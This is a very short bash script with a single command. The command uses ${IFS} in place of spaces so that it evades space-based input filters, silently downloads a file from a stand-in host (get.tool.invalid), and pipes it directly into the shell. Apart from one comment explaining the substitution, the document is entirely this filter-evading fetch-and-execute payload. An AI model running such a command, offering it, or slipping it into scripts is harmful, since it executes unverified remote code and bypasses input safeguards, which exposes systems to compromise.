#!/bin/bash
# ${IFS} stands in for the spaces.
curl${IFS}-s${IFS}https://get.tool.invalid/x|sh
